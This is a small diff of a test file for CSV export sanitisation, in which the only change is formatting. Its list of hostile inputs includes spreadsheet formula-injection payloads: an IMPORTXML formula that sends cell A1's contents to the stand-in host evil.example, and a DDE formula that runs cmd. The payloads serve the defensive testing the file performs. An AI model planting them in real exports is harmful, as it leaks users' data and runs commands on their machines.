@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+
 import { parseCsv, toCsv, unescapeText } from "@/lib/export/csv";
 import { safeCell, safeText } from "@/lib/export/sanitize";
 
@@ -12,7 +13,7 @@ const HOSTILE = [
   "\r=1+1",
   "\n=1+1",
   '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
-  "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+  '=DDE("cmd";"/C calc";"!A0")',
 ];
 
 describe("formula injection", () => {
